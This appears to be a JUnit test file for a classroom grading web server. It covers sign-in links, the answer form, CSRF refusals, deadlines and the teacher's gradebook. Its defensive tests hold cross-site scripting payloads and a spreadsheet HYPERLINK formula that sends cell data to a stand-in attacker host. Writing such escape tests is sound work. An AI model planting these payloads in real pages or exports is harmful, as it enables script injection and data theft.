package nngrade.serve;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import nngrade.problem.ProblemLoader;
import nngrade.report.Messages;
import nngrade.submission.Roster;
import nngrade.submission.RosterReader;
import nngrade.variant.ProblemSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The pages of nngrade serve, over HTTP on a loopback port: signing in from a link, the answer
 * form (decimal commas, a pasted matrix, an upload), what a student may and may not see, the
 * teacher's class view, and the refusals (no cookie, a forged form, a body too large).
 */
class ServePagesTest extends ServeHttpTest {
    private static final String PAGE = "/p/notes-softmax-step";
    private static final Path HOSTILE_ROSTER = Path.of("src/test/resources/serve/hostile-roster.csv");
    private static final ObjectMapper MAPPER = new ObjectMapper();

    @Override
    void headers(HttpResponse<String> r) {
        if (r.headers().firstValue("Content-Type").orElse("").startsWith("text/html")) {
            assertEquals(Pages.CSP, r.headers().firstValue("Content-Security-Policy").orElse(null), r.uri().toString());
        }
    }

    private void start(Path roster, Optional<Instant> deadline, Optional<Messages.Lang> lang, Reveal reveal,
                       OptionalInt maxChecks) {
        Roster r = RosterReader.read(roster);
        List<ProblemSource> problems = List.of(new ProblemSource(ProblemLoader.read(Path.of(NOTES)), secret),
                new ProblemSource(ProblemLoader.read(Path.of(VARIANT)), secret));
        server = Server.start(new ServeConfig(problems, r, Tokens.of(secret, r.ids()), teacher, store, "127.0.0.1", 0,
                deadline, maxChecks, lang, reveal, false, clock));
    }

    private void start() {
        start(ROSTER, Optional.empty(), Optional.empty(), Reveal.NEVER, OptionalInt.empty());
    }

    private static String studentCookie(String token) {
        return Pages.STUDENT_COOKIE + "=" + token;
    }

    private String as(String id) {
        return studentCookie(token(id));
    }

    private HttpResponse<String> get(String path, String cookie, String... headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path)).GET();
        if (cookie != null) {
            b.header("Cookie", cookie);
        }
        for (int i = 0; i < headers.length; i += 2) {
            b.header(headers[i], headers[i + 1]);
        }
        return send(b.build());
    }

    private HttpResponse<String> postForm(String path, String cookie, Map<String, String> fields) throws Exception {
        StringBuilder body = new StringBuilder();
        fields.forEach((k, v) -> body.append(body.length() == 0 ? "" : "&").append(URLEncoder.encode(k, StandardCharsets.UTF_8))
                .append('=').append(URLEncoder.encode(v, StandardCharsets.UTF_8)));
        return post(path, cookie, "application/x-www-form-urlencoded", body.toString().getBytes(StandardCharsets.UTF_8));
    }

    private HttpResponse<String> post(String path, String cookie, String type, byte[] body) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path)).POST(HttpRequest.BodyPublishers.ofByteArray(body))
                .header("Content-Type", type);
        if (cookie != null) {
            b.header("Cookie", cookie);
        }
        return send(b.build());
    }

    private HttpResponse<String> upload(String cookie, String csrf, String fileName, byte[] file) throws Exception {
        String boundary = "----nngrade-test-boundary";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n" + csrf + "\r\n")
                .getBytes(StandardCharsets.UTF_8));
        if (fileName != null) {
            out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                    + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            out.writeBytes(file);
            out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return post(PAGE + "/upload", cookie, "multipart/form-data; boundary=" + boundary, out.toByteArray());
    }

    /** The form token a student's pages carry, read off their problem page. */
    private String csrfOf(String cookie) throws Exception {
        Matcher m = Pattern.compile("name=\"csrf\" value=\"([^\"]+)\"").matcher(get(PAGE, cookie).body());
        assertTrue(m.find(), "no form token on the page");
        return m.group(1);
    }

    /** perfect.json's answers as the form's fields, every value written with a decimal comma. */
    private static Map<String, String> perfectForm(String csrf) throws IOException {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("csrf", csrf);
        JsonNode answers = MAPPER.readTree(Path.of("submissions-sample/perfect.json").toFile()).get("answers");
        for (Iterator<Map.Entry<String, JsonNode>> it = answers.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> e = it.next();
            JsonNode v = e.getValue();
            if (v.isNumber()) {
                fields.put("q." + e.getKey() + ".1.1", comma(v));
            } else if (v.get(0).isNumber()) {
                for (int j = 0; j < v.size(); j++) {
                    fields.put("q." + e.getKey() + ".1." + (j + 1), comma(v.get(j)));
                }
            } else {
                for (int i = 0; i < v.size(); i++) {
                    for (int j = 0; j < v.get(i).size(); j++) {
                        fields.put("q." + e.getKey() + "." + (i + 1) + "." + (j + 1), comma(v.get(i).get(j)));
                    }
                }
            }
        }
        return fields;
    }

    private static String comma(JsonNode v) {
        return v.asText().replace('.', ',');
    }

    private static String between(String page, String from, String to) {
        int a = page.indexOf(from);
        assertTrue(a >= 0, "no " + from + " in the page");
        int b = page.indexOf(to, a);
        return page.substring(a, b < 0 ? page.length() : b);
    }

    @Test
    void aLinkSetsAStrictHttpOnlyCookieAndLeadsToTheStudentsProblems() throws Exception {
        start();
        HttpResponse<String> in = get("/s/" + token("s001"), null);
        assertEquals(200, in.statusCode());
        String cookie = in.headers().firstValue("Set-Cookie").orElseThrow();
        assertEquals(Pages.STUDENT_COOKIE + "=" + token("s001") + "; Path=/; HttpOnly; SameSite=Strict", cookie);
        assertTrue(in.body().contains("<meta http-equiv=\"refresh\" content=\"0; url=/\">"), in.body());
        assertTrue(in.body().contains("You are signed in as s001."), in.body());

        HttpResponse<String> home = get("/", as("s001"));
        assertEquals(200, home.statusCode());
        assertTrue(home.body().contains("Ana Pop (s001)"), home.body());
        assertTrue(home.body().contains("<a href=\"/p/notes-softmax-step\">Softmax regression: one gradient-descent step</a>"));
        assertTrue(home.body().contains("<a href=\"/p/variant-softmax-step\">"));
    }

    @ParameterizedTest
    @CsvSource({"/", "/p/notes-softmax-step", "/p/notes-softmax-step/a/1"})
    void withoutAValidCookieNoPageShowsAnythingOfAStudent(String path) throws Exception {
        start();
        for (String cookie : new String[] {null, studentCookie("not-a-token"), studentCookie(teacherToken),
                Pages.TEACHER_COOKIE + "=" + teacherToken}) {
            HttpResponse<String> r = get(path, cookie);
            assertEquals(401, r.statusCode(), path + " with " + cookie);
            assertTrue(r.body().contains("Open your own link"), r.body());
            assertFalse(r.body().contains("Ana Pop"));
        }
        HttpResponse<String> wrong = get("/s/" + token("s001").substring(1), null);
        assertEquals(401, wrong.statusCode());
        assertTrue(wrong.headers().allValues("Set-Cookie").isEmpty());
        assertTrue(wrong.body().contains("This link does not sign anyone in"));
    }

    @Test
    void theFormChecksValuesWithDecimalCommasAndShowsTheAttemptWithItsAnswers() throws Exception {
        start();
        String cookie = as("s001");
        HttpResponse<String> r = postForm(PAGE + "/check", cookie, perfectForm(csrfOf(cookie)));
        assertEquals(303, r.statusCode(), r.body());
        assertEquals(PAGE + "/a/1#feedback", r.headers().firstValue("Location").orElseThrow());
        List<Attempt> stored = store.attemptsOf("s001", "notes-softmax-step");
        assertEquals(1, stored.size());
        assertEquals(9.0, stored.get(0).score(), 1e-9);
        assertEquals(9.0, stored.get(0).maxScore(), 1e-9);

        String page = get(PAGE + "/a/1", cookie).body();
        assertTrue(page.contains("Check 1 · 2026-12-01 10:00:00 · 9 / 9"), page);
        // the form holds the answers checked, ready to change one and check again
        assertTrue(page.contains("name=\"q.z1.1.2\" value=\"-2\""), page);
        assertTrue(page.contains("name=\"q.dW1.2.2\" value=\"-2.9367205378474655\""), page);
        assertTrue(between(page, "id=\"attempts\"", "</table>").contains("<strong>1</strong>"));
        assertTrue(get("/", cookie).body().contains("<td>1</td><td>9 / 9</td>"));
    }

    @Test
    void valuesThatCannotBeReadOrAPartlyFilledAnswerAreRefusedAndNothingIsStored() throws Exception {
        start();
        String cookie = as("s001");
        Map<String, String> form = perfectForm(csrfOf(cookie));
        form.put("q.z1.1.2", "abc");
        form.put("q.dW1.3.1", "");
        HttpResponse<String> r = postForm(PAGE + "/check", cookie, form);
        assertEquals(422, r.statusCode());
        assertTrue(r.body().contains("z1, row 1, column 2: &#34;abc&#34; is not a number")
                || r.body().contains("z1, row 1, column 2: &quot;abc&quot; is not a number"), r.body());
        assertTrue(r.body().contains("dW1: 1 of 9 cells are empty"), r.body());
        assertTrue(r.body().contains("name=\"q.z1.1.2\" value=\"abc\" inputmode=\"decimal\" autocomplete=\"off\" "
                + "spellcheck=\"false\" aria-label=\"z1, row 1, column 2\" class=\"bad\""), r.body());
        Map<String, String> empty = new LinkedHashMap<>();
        empty.put("csrf", form.get("csrf"));
        HttpResponse<String> none = postForm(PAGE + "/check", cookie, empty);
        assertEquals(422, none.statusCode());
        assertTrue(none.body().contains("Nothing was filled in"), none.body());
        assertEquals(0, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void aMatrixPastedFromASpreadsheetIsCheckedInTheShapeItHas() throws Exception {
        start();
        String cookie = as("s001");
        Map<String, String> form = new LinkedHashMap<>();
        form.put("csrf", csrfOf(cookie));
        // the notes' slip: x·(ŷ − y)ᵀ, the transpose of dW1
        form.put("paste.dW1", "0,3469\t-0,9789\t0,632\n1,0407\t-2,9367\t1,8961\n0\t0\t0\n");
        HttpResponse<String> r = postForm(PAGE + "/check", cookie, form);
        assertEquals(303, r.statusCode(), r.body());
        String page = get(PAGE + "/a/1", cookie).body();
        assertTrue(between(page, "id=\"q-dW1\"", "</section>").contains("transpose"), page);

        form.put("paste.dW1", "1\t2\t3\n4\t5\n");
        HttpResponse<String> ragged = postForm(PAGE + "/check", cookie, form);
        assertEquals(422, ragged.statusCode());
        assertTrue(ragged.body().contains("dW1: pasted row 2 has 2 values, the first row 3"), ragged.body());
        assertEquals(1, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void anUploadedFileIsCheckedAndAFileOfAnotherKindIsNot() throws Exception {
        start();
        String cookie = as("s001");
        String csrf = csrfOf(cookie);
        HttpResponse<String> r = upload(cookie, csrf, "answers.json", Files.readAllBytes(Path.of("submissions-sample/notes.json")));
        assertEquals(303, r.statusCode(), r.body());
        Attempt a = store.attemptsOf("s001", "notes-softmax-step").get(0);
        assertEquals("application/json", a.check().contentType());

        HttpResponse<String> csv = upload(cookie, csrf, "long.csv", Files.readAllBytes(Path.of("submissions-sample/long.csv")));
        assertEquals(303, csv.statusCode(), csv.body());
        assertEquals("text/csv", store.attemptsOf("s001", "notes-softmax-step").get(1).check().contentType());

        HttpResponse<String> pdf = upload(cookie, csrf, "<b>answers</b>.pdf", new byte[] {'%', 'P', 'D', 'F'});
        assertEquals(422, pdf.statusCode());
        assertTrue(pdf.body().contains("&lt;b&gt;answers&lt;/b&gt;.pdf is not JSON, CSV or .xlsx"), pdf.body());
        HttpResponse<String> nothing = upload(cookie, csrf, null, null);
        assertEquals(422, nothing.statusCode());
        assertTrue(nothing.body().contains("No file was chosen"));
        HttpResponse<String> unreadable = upload(cookie, csrf, "a.json", "{\"answers\": {\"z1\": [1,".getBytes(StandardCharsets.UTF_8));
        assertEquals(422, unreadable.statusCode());
        assertEquals(2, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void aFormWithoutTheStudentsOwnFormTokenChecksNothing() throws Exception {
        start();
        Map<String, String> form = perfectForm(csrfOf(as("s002")));
        assertEquals(403, postForm(PAGE + "/check", as("s001"), form).statusCode());
        form.put("csrf", "");
        assertEquals(403, postForm(PAGE + "/check", as("s001"), form).statusCode());
        form.remove("csrf");
        HttpResponse<String> r = postForm(PAGE + "/check", as("s001"), form);
        assertEquals(403, r.statusCode());
        assertTrue(r.body().contains("The form has expired"), r.body());
        assertEquals(403, upload(as("s001"), "forged", "a.json", Files.readAllBytes(Path.of("submissions-sample/perfect.json")))
                .statusCode());
        assertEquals(403, postForm("/sign-out", as("s001"), Map.of("csrf", "forged")).statusCode());
        assertEquals(0, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void aStudentSeesOnlyTheirOwnAttemptsAndVariant() throws Exception {
        start();
        String cookie = as("s001");
        assertEquals(303, postForm(PAGE + "/check", cookie, perfectForm(csrfOf(cookie))).statusCode());
        HttpResponse<String> other = get(PAGE + "/a/1", as("s002"));
        assertEquals(404, other.statusCode());
        assertFalse(other.body().contains("9 / 9"));
        assertTrue(get("/", as("s002")).body().contains("<td>0</td><td>–</td>"));
        // each student's sheet has their own variant's numbers
        String mine = get("/p/variant-softmax-step", as("s001")).body();
        String theirs = get("/p/variant-softmax-step", as("s002")).body();
        assertFalse(between(mine, "<h2>Given</h2>", "id=\"answer\"").equals(between(theirs, "<h2>Given</h2>", "id=\"answer\"")));
    }

    @Test
    void beforeTheDeadlineNoExpectedValueIsShown() throws Exception {
        start(ROSTER, Optional.of(Instant.parse("2026-12-24T22:00:00Z")), Optional.empty(), Reveal.AFTER_DEADLINE,
                OptionalInt.empty());
        String cookie = as("s001");
        Map<String, String> form = perfectForm(csrfOf(cookie));
        form.put("q.yhat.1.1", "0,5"); // the key's 0.3468694676544798 is what must not show
        assertEquals(303, postForm(PAGE + "/check", cookie, form).statusCode());
        String page = get(PAGE + "/a/1", cookie).body();
        String feedback = between(page, "id=\"feedback\"", "id=\"answer\"");
        assertTrue(feedback.contains("<td class=\"bad\">0.5</td>"), feedback);
        assertFalse(feedback.contains("<small>"), feedback);
        assertFalse(between(feedback, "id=\"q-yhat\"", "</section>").contains("0.3468"), feedback);
        assertTrue(page.contains("Deadline: 2026-12-24 22:00:00 UTC."), page);
    }

    @ParameterizedTest
    @CsvSource({"AFTER_DEADLINE, true", "NEVER, false"})
    void afterTheDeadlineChecksAreClosedAndExpectedValuesShowOnlyWithReveal(Reveal reveal, boolean shown) throws Exception {
        start(ROSTER, Optional.of(Instant.parse("2026-12-24T22:00:00Z")), Optional.empty(), reveal, OptionalInt.empty());
        String cookie = as("s001");
        Map<String, String> form = perfectForm(csrfOf(cookie));
        form.put("q.yhat.1.1", "0,5");
        assertEquals(303, postForm(PAGE + "/check", cookie, form).statusCode());
        clock.now = Instant.parse("2026-12-25T08:00:00Z");
        String page = get(PAGE, cookie).body();
        String feedback = between(page, "id=\"feedback\"", "id=\"attempts\"");
        assertEquals(shown, feedback.contains("<small>0.3468695</small>"), feedback);
        assertFalse(page.contains("id=\"answers\""), "no form once checks are closed");
        assertTrue(page.contains("has passed: checks are closed"), page);
        HttpResponse<String> late = postForm(PAGE + "/check", cookie, form);
        assertEquals(403, late.statusCode());
        assertTrue(late.body().contains("Checks are closed"), late.body());
        assertEquals(1, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void thePagesSpeakTheBrowsersLanguageUnlessTheServerHasOne() throws Exception {
        start();
        String ro = get("/", as("s001"), "Accept-Language", "ro-RO,ro;q=0.9,en;q=0.5").body();
        assertTrue(ro.contains("<html lang=\"ro\">") && ro.contains("Problemele tale"), ro);
        String en = get("/", as("s001"), "Accept-Language", "de-DE,de;q=0.9").body();
        assertTrue(en.contains("Your problems"), en);
        String problem = get(PAGE, as("s001"), "Accept-Language", "ro").body();
        assertTrue(problem.contains("Verifică răspunsurile"), problem);
        assertTrue(problem.contains("<h2>Rețeaua</h2>\n<p>3 intrări → 3 softmax; funcția de cost entropia încrucișată "
                + "(media pe 1 exemplu); ponderile unități × intrări; rata de învățare η = 1</p>"), problem);
        assertTrue(problem.contains("<td>0,1</td>"), "the given values with decimal commas");
        server.close();
        server = null;
        start(ROSTER, Optional.empty(), Optional.of(Messages.Lang.en), Reveal.NEVER, OptionalInt.empty());
        assertTrue(get("/", as("s001"), "Accept-Language", "ro").body().contains("Your problems"));
    }

    @Test
    void romanianAnswersCarryDecimalCommasBackIntoTheForm() throws Exception {
        start(ROSTER, Optional.empty(), Optional.of(Messages.Lang.ro), Reveal.NEVER, OptionalInt.empty());
        String cookie = as("s001");
        assertEquals(303, postForm(PAGE + "/check", cookie, perfectForm(csrfOf(cookie))).statusCode());
        String page = get(PAGE + "/a/1", cookie).body();
        assertTrue(page.contains("name=\"q.z1.1.3\" value=\"1,4000000000000001\""), page);
        assertTrue(page.contains("Verificarea 1"), page);
    }

    @Test
    void theTeacherSignsInWithTheTokenAndSeesTheClassAndItsMistakes() throws Exception {
        start();
        String s1 = as("s001");
        assertEquals(303, postForm(PAGE + "/check", s1, perfectForm(csrfOf(s1))).statusCode());
        Map<String, String> wrong = new LinkedHashMap<>();
        String s3 = as("s003");
        wrong.put("csrf", csrfOf(s3));
        wrong.put("paste.dW1", "0,3469\t-0,9789\t0,632\n1,0407\t-2,9367\t1,8961\n0\t0\t0\n");
        assertEquals(303, postForm(PAGE + "/check", s3, wrong).statusCode());

        HttpResponse<String> signIn = get("/teacher", null);
        assertEquals(200, signIn.statusCode());
        String formCookie = signIn.headers().allValues("Set-Cookie").stream()
                .filter(c -> c.startsWith(Pages.FORM_COOKIE + "=")).findFirst().orElseThrow();
        String nonce = formCookie.substring(Pages.FORM_COOKIE.length() + 1, formCookie.indexOf(';'));
        assertTrue(signIn.body().contains("value=\"" + nonce + "\""));
        assertTrue(signIn.body().contains("The token is in the file teacher-token of the data folder"), signIn.body());

        String pre = Pages.FORM_COOKIE + "=" + nonce;
        assertEquals(403, postForm("/teacher/sign-in", null, Map.of("csrf", nonce, "token", teacherToken)).statusCode());
        assertEquals(401, postForm("/teacher/sign-in", pre, Map.of("csrf", nonce, "token", token("s001"))).statusCode());
        HttpResponse<String> in = postForm("/teacher/sign-in", pre, Map.of("csrf", nonce, "token", teacherToken));
        assertEquals(303, in.statusCode());
        assertTrue(in.headers().allValues("Set-Cookie").contains(Pages.TEACHER_COOKIE + "=" + teacher.cookie()
                + "; Path=/; HttpOnly; SameSite=Strict"));

        String t = Pages.TEACHER_COOKIE + "=" + teacher.cookie();
        String page = get("/teacher", t).body();
        assertTrue(page.contains("<meta http-equiv=\"refresh\" content=\"30\">"), "the class view reloads itself");
        String notes = between(page, "id=\"p-notes-softmax-step\"", "</section>");
        assertTrue(notes.contains("2 of 6 students have checked; mean counted score 4.5 / 9."), notes);
        assertTrue(notes.contains("<td class=\"code\">dW1</td><td>1</td><td>transposed ×1</td>"), notes);
        assertTrue(notes.contains("<td class=\"code\">s001</td><td>Ana Pop</td><td>1</td><td>9 / 9</td>"), notes);
        assertTrue(notes.contains("<td class=\"code\">s002</td><td>=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1)</td>")
                || notes.contains("<td class=\"code\">s002</td><td>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1)</td>"),
                notes);

        HttpResponse<String> csv = get("/teacher/gradebook.csv?problem=notes-softmax-step", t);
        assertEquals(200, csv.statusCode());
        assertTrue(csv.body().startsWith("id,"), csv.body());
        assertTrue(csv.body().contains("s001,"), csv.body());
        assertEquals("attachment; filename=\"notes-softmax-step-gradebook.csv\"",
                csv.headers().firstValue("Content-Disposition").orElseThrow());
        assertEquals(401, get("/teacher/gradebook.csv?problem=notes-softmax-step", s1).statusCode());
        assertFalse(get("/teacher", s1).body().contains("Ana Pop"), "a student's cookie is not the teacher's");
    }

    @Test
    void hostileIdsAndNamesAreTextOnEveryPage() throws Exception {
        start(HOSTILE_ROSTER, Optional.empty(), Optional.empty(), Reveal.NEVER, OptionalInt.empty());
        String id = "<script>alert(1)</script>";
        String cookie = studentCookie(token(id));
        List<String> pages = new ArrayList<>();
        pages.add(get("/s/" + token(id), null).body());
        pages.add(get("/", cookie).body());
        pages.add(get(PAGE, cookie).body());
        assertEquals(303, upload(cookie, csrfOf(cookie), "x.json", ("{\"student\": \"<img src=x onerror=alert(2)>\", "
                + "\"variant\": \"<svg onload=alert(3)>\", \"answers\": {\"z1\": [0.8, -2, 1.4]}}")
                .getBytes(StandardCharsets.UTF_8)).statusCode());
        pages.add(get(PAGE + "/a/1", cookie).body());
        pages.add(get("/teacher", Pages.TEACHER_COOKIE + "=" + teacher.cookie()).body());
        for (String page : pages) {
            assertFalse(page.contains("<script>alert"), page);
            assertFalse(page.contains("<img src=x"), page);
            assertFalse(page.contains("<svg onload"), page);
            assertFalse(page.contains("<b onmouseover"), page);
        }
        assertTrue(pages.get(1).contains("&lt;script&gt;alert(1)&lt;/script&gt;"), pages.get(1));
    }

    @Test
    void aFormOverOneMebibyteIs413AndChecksNothing() throws Exception {
        start();
        String cookie = as("s001");
        Map<String, String> form = perfectForm(csrfOf(cookie));
        form.put("paste.z1", "1 ".repeat(Api.MAX_BODY / 2 + 10));
        HttpResponse<String> r = postForm(PAGE + "/check", cookie, form);
        assertEquals(413, r.statusCode());
        assertTrue(r.body().contains("over 1 MiB"), r.body());
        assertEquals(0, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void tooManyChecksAre429WithRetryAfter() throws Exception {
        start(ROSTER, Optional.empty(), Optional.empty(), Reveal.NEVER, OptionalInt.of(1));
        String cookie = as("s001");
        String csrf = csrfOf(cookie);
        assertTrue(get(PAGE, cookie).body().contains("1 check left this hour"));
        assertEquals(303, postForm(PAGE + "/check", cookie, perfectForm(csrf)).statusCode());
        assertTrue(get(PAGE, cookie).body().contains("no checks left this hour"));
        assertTrue(get(PAGE, cookie).body().contains("id=\"check\" disabled>"), "the button is off");
        Map<String, String> form = perfectForm(csrf);
        form.put("q.z1.1.1", "0,75");
        HttpResponse<String> r = postForm(PAGE + "/check", cookie, form);
        assertEquals(429, r.statusCode());
        assertEquals("3600", r.headers().firstValue("Retry-After").orElseThrow());
        assertTrue(r.body().contains("try again in 60 minutes. Nothing was counted; your answers are still in the form."),
                r.body());
        assertTrue(r.body().contains("name=\"q.z1.1.1\" value=\"0,75\""), "the answers typed come back");
        assertEquals(1, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void signingOutClearsBothCookies() throws Exception {
        start();
        String cookie = as("s001");
        HttpResponse<String> r = postForm("/sign-out", cookie, Map.of("csrf", csrfOf(cookie)));
        assertEquals(200, r.statusCode());
        assertEquals(List.of(Pages.STUDENT_COOKIE + "=; Path=/; Max-Age=0; HttpOnly; SameSite=Strict",
                Pages.TEACHER_COOKIE + "=; Path=/; Max-Age=0; HttpOnly; SameSite=Strict"), r.headers().allValues("Set-Cookie"));
    }

    @Test
    void unknownPagesAre404AndTheScriptIsServed() throws Exception {
        start();
        assertEquals(404, get("/nowhere", as("s001")).statusCode());
        assertEquals(404, get("/p/%3Cscript%3E", as("s001")).statusCode());
        assertEquals(404, get(PAGE + "/a/0", as("s001")).statusCode());
        assertEquals(404, get(PAGE + "/a/99999999999", as("s001")).statusCode());
        HttpResponse<String> js = get("/static/nngrade.js", null);
        assertEquals(200, js.statusCode());
        assertTrue(js.headers().firstValue("Content-Type").orElseThrow().startsWith("text/javascript"));
        assertTrue(js.body().contains("addEventListener(\"paste\""));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"q.z1.1.1=%zz", "q.z1.1.1=%C3%28", "%=1", "csrf=%"})
    void aBodyThatIsNotAFormIsA400PageNotAnError(String body) throws Exception {
        start();
        String cookie = as("s001");
        for (String path : List.of(PAGE + "/check", "/sign-out", "/teacher/sign-in")) {
            HttpResponse<String> r = post(path, cookie, "application/x-www-form-urlencoded",
                    body.getBytes(StandardCharsets.ISO_8859_1));
            assertEquals(400, r.statusCode(), path + ": " + r.body());
            assertTrue(r.body().contains("The form could not be read"), r.body());
        }
        StringBuilder many = new StringBuilder("csrf=x");
        for (int i = 0; i < Pages.MAX_FIELDS + 10; i++) {
            many.append("&f").append(i).append("=1");
        }
        assertEquals(400, post(PAGE + "/check", cookie, "application/x-www-form-urlencoded",
                many.toString().getBytes(StandardCharsets.UTF_8)).statusCode());
        assertEquals(0, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void anotherStudentsLinkAsksBeforeSwitching() throws Exception {
        start();
        String mine = as("s001");
        HttpResponse<String> ask = get("/s/" + token("s003"), mine);
        assertEquals(200, ask.statusCode());
        assertTrue(ask.headers().allValues("Set-Cookie").isEmpty(), "nothing switched yet");
        assertTrue(ask.body().contains("Ana Pop (s001) is signed in on this browser, and this link is Ioan, Marin (s003)'s")
                || ask.body().contains("Ana Pop (s001) is signed in on this browser, and this link is Ioan, Marin (s003)&#39;s"),
                ask.body());
        Matcher m = Pattern.compile("action=\"(/s/[^\"]+)\">\n<input type=\"hidden\" name=\"csrf\" value=\"([^\"]+)\"")
                .matcher(ask.body());
        // the form's address is the link itself, which the student opened; its token is s001's page's
        assertTrue(ask.body().contains("name=\"csrf\" value=\"" + Pages.csrf(token("s001")) + "\""), ask.body());
        assertEquals(403, postForm("/s/" + token("s003"), null, Map.of("csrf", Pages.csrf(token("s001")))).statusCode(),
                "a page of another site sends no cookie");
        assertEquals(403, postForm("/s/" + token("s003"), mine, Map.of("csrf", Pages.csrf(token("s003")))).statusCode());
        HttpResponse<String> yes = postForm("/s/" + token("s003"), mine, Map.of("csrf", Pages.csrf(token("s001"))));
        assertEquals(200, yes.statusCode());
        assertEquals(Pages.STUDENT_COOKIE + "=" + token("s003") + "; Path=/; HttpOnly; SameSite=Strict",
                yes.headers().firstValue("Set-Cookie").orElseThrow());
        assertEquals(200, get("/s/" + token("s001"), mine).statusCode());
        assertTrue(get("/s/" + token("s001"), mine).headers().firstValue("Set-Cookie").isPresent(), "one's own link signs in");
    }

    @Test
    void signingOutWorksFromEitherBarWithBothCookies() throws Exception {
        start();
        String both = as("s001") + "; " + Pages.TEACHER_COOKIE + "=" + teacher.cookie();
        assertEquals(200, postForm("/sign-out", both, Map.of("csrf", Pages.csrf(teacher.cookie()))).statusCode());
        assertEquals(200, postForm("/sign-out", both, Map.of("csrf", Pages.csrf(token("s001")))).statusCode());
        assertEquals(403, postForm("/sign-out", both, Map.of("csrf", Pages.csrf(token("s002")))).statusCode());
    }

    @Test
    void anUploadThatCannotBeReadOrIsForAnotherProblemChecksNothing() throws Exception {
        start();
        String cookie = as("s001");
        HttpResponse<String> cut = post(PAGE + "/upload", cookie, "multipart/form-data; boundary=xyz",
                "--xyz\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\nabc".getBytes(StandardCharsets.UTF_8));
        assertEquals(422, cut.statusCode(), cut.body());
        assertTrue(cut.body().contains("The upload could not be read"), cut.body());
        String other = Files.readString(Path.of("submissions-sample/perfect.json")).replace("\"notes-softmax-step\"",
                "\"two-layer-tanh-softmax\"");
        HttpResponse<String> wrong = upload(cookie, csrfOf(cookie), "mine.json", other.getBytes(StandardCharsets.UTF_8));
        assertEquals(422, wrong.statusCode(), wrong.body());
        assertTrue(wrong.body().contains("is an answer to the problem two-layer-tanh-softmax, not to notes-softmax-step"),
                wrong.body());
        Map<String, String> form = new LinkedHashMap<>();
        form.put("csrf", csrfOf(cookie));
        form.put("paste.dW1", "1 ".repeat(100));
        HttpResponse<String> huge = postForm(PAGE + "/check", cookie, form);
        assertEquals(422, huge.statusCode());
        assertTrue(huge.body().contains("dW1: the pasted matrix has far more values than a 3 × 3 answer"), huge.body());
        assertEquals(0, store.attemptsOn("notes-softmax-step").size());
    }

    @Test
    void cookiesAreSecureBehindAnHttpsProxyOnThisMachine() throws Exception {
        start();
        HttpResponse<String> plain = get("/s/" + token("s001"), null);
        assertFalse(plain.headers().firstValue("Set-Cookie").orElseThrow().contains("Secure"));
        HttpResponse<String> proxied = get("/s/" + token("s001"), null, "X-Forwarded-Proto", "https");
        assertTrue(proxied.headers().firstValue("Set-Cookie").orElseThrow().endsWith("; SameSite=Strict; Secure"));
        HttpResponse<String> none = get("/", null);
        assertEquals(401, none.statusCode());
        assertEquals("Bearer realm=\"nngrade\"", none.headers().firstValue("WWW-Authenticate").orElseThrow());
    }

    @Test
    void aTeacherTokenOfAnyCharactersSignsIn() throws Exception {
        Path file = data.resolve("my-token.txt");
        Files.writeString(file, "correct horse; battery staple = 42\n");
        teacher = TeacherToken.load(file, data);
        start();
        HttpResponse<String> signIn = get("/teacher", null);
        String formCookie = signIn.headers().allValues("Set-Cookie").get(0);
        String nonce = formCookie.substring(Pages.FORM_COOKIE.length() + 1, formCookie.indexOf(';'));
        HttpResponse<String> in = postForm("/teacher/sign-in", Pages.FORM_COOKIE + "=" + nonce,
                Map.of("csrf", nonce, "token", "correct horse; battery staple = 42"));
        assertEquals(303, in.statusCode(), in.body());
        String cookie = in.headers().allValues("Set-Cookie").get(0);
        String value = cookie.substring(0, cookie.indexOf(';'));
        assertTrue(value.matches(Pages.TEACHER_COOKIE + "=[A-Za-z0-9_-]{43}"), value);
        assertTrue(get("/teacher", value).body().contains("id=\"p-notes-softmax-step\""));
        assertFalse(signIn.body().contains(data.toString()), "the sign-in page does not show the server's folders");
    }
}
